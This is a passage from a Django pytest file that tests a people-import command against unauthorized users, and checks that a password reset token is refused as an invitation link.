            call_command("people", "import", str(roster), "--user", who)
    with pytest.raises(CommandError):
        call_command("people", "import", str(roster), "--user", mia.username)
    assert not User.objects.filter(username="boss").exists()
    assert [len(part) for part in state()] == [len(part) for part in before]


def test_a_password_reset_token_is_no_invitation(client, db):
    from django.contrib.auth.tokens import default_token_generator
    from django.utils.encoding import force_bytes
    from django.utils.http import urlsafe_base64_encode

    person = _invited()
    uid = urlsafe_base64_encode(force_bytes(person.pk))
    token = default_token_generator.make_token(person)
    response = _set(client, f"/people/welcome/{uid}/{token}/")
    assert "invalid-link" in response.text
    person.refresh_from_db()
    assert not person.has_usable_password()
